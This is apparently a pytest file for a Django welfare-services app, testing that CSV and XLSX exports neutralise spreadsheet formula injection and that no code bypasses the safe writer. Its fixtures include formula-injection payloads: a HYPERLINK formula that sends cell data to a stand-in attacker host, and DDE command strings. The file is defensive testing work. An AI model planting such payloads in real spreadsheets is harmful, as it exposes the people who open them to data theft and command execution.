"""Every CSV a person downloads goes through one writer that neutralises spreadsheet formulas."""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from layanan.dtks.impor import impor_dari_berkas
from layanan.ekspor import PenulisCsv, respons_csv, respons_xlsx, sel_aman
from layanan.models import AksesData, JenisAkses, Kantor, Pengguna, StatusImpor
from tests.test_adapters_dtks import HEADER, SAH
from tests.views.test_dtks import _daftar, _masuk

KODE = Path(__file__).resolve().parents[1] / "layanan"
RUMUS = [
    '=HYPERLINK("https://penyerang.example/?d="&A1,"Klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("rumus", RUMUS)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(rumus):
    assert sel_aman(rumus) == "'" + rumus


@pytest.mark.parametrize(
    ("nilai", "teks"),
    [
        ("Sri Wahyuni", "Sri Wahyuni"),
        ("'3572024509120004", "'3572024509120004"),  # already text to Excel
        ("Jl. Merdeka 5, RT 01 = batas", "Jl. Merdeka 5, RT 01 = batas"),
        (2026, "2026"),
        (None, ""),
    ],
)
def test_other_cells_are_written_as_they_are(nilai, teks):
    assert sel_aman(nilai) == teks


def test_the_writer_neutralises_every_cell_and_keeps_csv_quoting():
    keluar = io.StringIO()
    PenulisCsv(keluar).writerows([["NIK", "Nama"], ["'3572", RUMUS[0]], ["a,b", 'kata "kutip"']])
    assert list(csv.reader(io.StringIO(keluar.getvalue()))) == [
        ["NIK", "Nama"],
        ["'3572", "'" + RUMUS[0]],
        ["a,b", 'kata "kutip"'],
    ]


def test_a_csv_download_is_an_attachment_with_a_bom_never_stored():
    response = respons_csv("usulan dtks é.csv", [["Nama"], ["=1+1"]])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment;")
    assert "filename*=utf-8''usulan%20dtks%20%C3%A9.csv" in response["Content-Disposition"]
    assert set(response["Cache-Control"].split(", ")) == {"no-store", "private"}
    assert response.content.decode("utf-8") == "\ufeffNama\r\n'=1+1\r\n"


def test_an_xlsx_cell_is_text_never_a_formula_and_dates_stay_dates():
    hari = dt.date(2026, 3, 2)
    response = respons_xlsx(
        "register.xlsx",
        "Register",
        ["Nama", "Tanggal", "Jumlah"],
        [[RUMUS[0], hari, 3], ["\x01" + RUMUS[0], None, "-5"]],  # a control character in front
    )
    assert response["Content-Type"].endswith("spreadsheetml.sheet")
    assert response["Content-Disposition"].startswith("attachment;")
    assert set(response["Cache-Control"].split(", ")) == {"no-store", "private"}
    lembar = load_workbook(io.BytesIO(response.content)).active
    baris = list(lembar.iter_rows())
    assert [[sel.value for sel in b] for b in baris] == [
        ["Nama", "Tanggal", "Jumlah"],
        ["'" + RUMUS[0], dt.datetime(2026, 3, 2), 3],
        ["'" + RUMUS[0], None, "'-5"],
    ]
    assert "f" not in {sel.data_type for b in baris for sel in b}  # no formula anywhere
    assert baris[0][0].font.b and lembar.freeze_panes == "A2"


# ---------------------------------------------------------------------------
# No export around the writer
# ---------------------------------------------------------------------------
# (module, function) where csv.writer may be used without PenulisCsv: the DTKS importer feeds
# PostgreSQL's COPY with CSV, read by the database, never by a person.
CSV_MESIN = {("dtks/impor.py", "PenulisCopy.tulis")}


def _pelanggaran(path: Path, akar: Path = KODE) -> list[str]:
    relatif = path.relative_to(akar).as_posix()
    pohon = ast.parse(path.read_text(encoding="utf-8"))
    temuan: list[str] = []

    def kunjungi(simpul: ast.AST, nama: str) -> None:
        for anak in ast.iter_child_nodes(simpul):
            if isinstance(anak, ast.ClassDef | ast.FunctionDef | ast.AsyncFunctionDef):
                kunjungi(anak, f"{nama}.{anak.name}".lstrip("."))
                continue
            tempat = f"{relatif}:{anak.lineno}" if hasattr(anak, "lineno") else relatif
            if (
                isinstance(anak, ast.Attribute)
                and isinstance(anak.value, ast.Name)
                and anak.value.id == "csv"
                and anak.attr in {"writer", "DictWriter"}
                and (relatif, nama) not in CSV_MESIN
            ):
                temuan.append(f"{tempat} csv.{anak.attr} in {nama or 'module'}")
            if isinstance(anak, ast.ImportFrom) and anak.module == "csv":
                temuan.extend(f"{tempat} from csv import {a.name}" for a in anak.names)
            if isinstance(anak, ast.ImportFrom | ast.Import) and any(
                a.name.split(".")[0] in {"xlsxwriter", "xlwt"} or a.name == "Workbook"
                for a in anak.names
            ):
                temuan.append(f"{tempat} a spreadsheet writer imported")
            if (
                isinstance(anak, ast.Constant)
                and isinstance(anak.value, str)
                and ("text/csv" in anak.value or "spreadsheetml" in anak.value)
            ):
                temuan.append(f"{tempat} a spreadsheet content type")
            kunjungi(anak, nama)

    kunjungi(pohon, "")
    return temuan


def test_no_export_writes_csv_or_xlsx_around_the_writer():
    pelanggaran = [
        temuan
        for path in sorted(KODE.rglob("*.py"))
        if "migrations" not in path.parts and path != KODE / "ekspor.py"
        for temuan in _pelanggaran(path)
    ]
    assert pelanggaran == []


def test_the_scan_finds_an_export_that_bypasses_the_writer(tmp_path):
    jalan_pintas = tmp_path / "jalan_pintas.py"
    jalan_pintas.write_text(
        "import csv\n"
        "from django.http import HttpResponse\n\n\n"
        "def ekspor(baris):\n"
        "    response = HttpResponse(content_type='text/csv')\n"
        "    csv.writer(response).writerows(baris)\n"
        "    return response\n",
        encoding="utf-8",
    )
    assert _pelanggaran(jalan_pintas, tmp_path) == [
        "jalan_pintas.py:6 a spreadsheet content type",
        "jalan_pintas.py:7 csv.writer in ekspor",
    ]


# ---------------------------------------------------------------------------
# Each export of the app, fed a formula
# ---------------------------------------------------------------------------
def _baris_csv(response) -> list[list[str]]:
    assert response["Content-Disposition"].startswith("attachment;")
    assert "no-store" in response["Cache-Control"]
    isi = b"".join(response) if response.streaming else response.content
    return list(csv.reader(io.StringIO(isi.decode("utf-8-sig"))))


@pytest.mark.django_db
def test_dtks_proposals_csv_neutralises_what_the_loket_typed(petugas_a, layanan_a):
    p = _daftar(
        petugas_a,
        layanan_a,
        nik="3572026207920003",
        nama=RUMUS[0],
        tanggal_lahir=None,
        jenis_kelamin="P",
        alamat=RUMUS[3],
    )
    assert p.pemohon.nama == RUMUS[0]
    peksos = _masuk("blitar.peksos")
    peksos.post(reverse("layanan:dtks-cek", args=[p.pk]))
    baris = _baris_csv(peksos.get(reverse("layanan:dtks-usulan") + "?format=csv"))
    pemohon = next(b for b in baris if b[0] == "'3572026207920003")
    assert "'" + RUMUS[0] in pemohon and "'" + RUMUS[3] in pemohon
    assert not any(sel.startswith(("=", "+", "-", "@", "\t", "\r")) for b in baris for sel in b)


@pytest.mark.django_db
def test_data_trail_csv_neutralises_a_staff_name(petugas_a, layanan_a, admin_a):
    p = _daftar(petugas_a, layanan_a)
    Pengguna.objects.filter(username="blitar.petugas").update(first_name=RUMUS[1], last_name="")
    AksesData.objects.create(
        permohonan=p,
        pengguna=Pengguna.objects.get(username="blitar.petugas"),
        jenis=JenisAkses.LIHAT,
    )
    response = admin_a.post(reverse("admin:jejak-akses"), {"nik": p.pemohon.nik, "format": "csv"})
    baris = _baris_csv(response)
    oleh_petugas = [b[1] for b in baris if b[1].endswith(RUMUS[1])]
    assert oleh_petugas and set(oleh_petugas) == {"'" + RUMUS[1]}


@pytest.mark.django_db
def test_rejected_rows_of_a_dtks_import_are_neutralised(admin_a, tmp_path):
    path = tmp_path / "dtks.csv"
    berbahaya = "\"=cmd|' /C calc'!A0\",,Iseng,-,-,1,,"
    path.write_text(HEADER + SAH[0] + f"2,{berbahaya}\n", encoding="utf-8")
    impor = impor_dari_berkas(
        kantor=Kantor.objects.get(kode="blitar"), path=path, periode="2026-10"
    )
    assert (impor.status, impor.baris_ditolak) == (StatusImpor.SELESAI, 1)
    url = reverse("admin:layanan_impordtks_ditolak", args=[impor.pk])
    baris = _baris_csv(admin_a.get(url))
    assert baris[1][0] == "3" and baris[1][2] == "'=cmd|' /C calc'!A0"
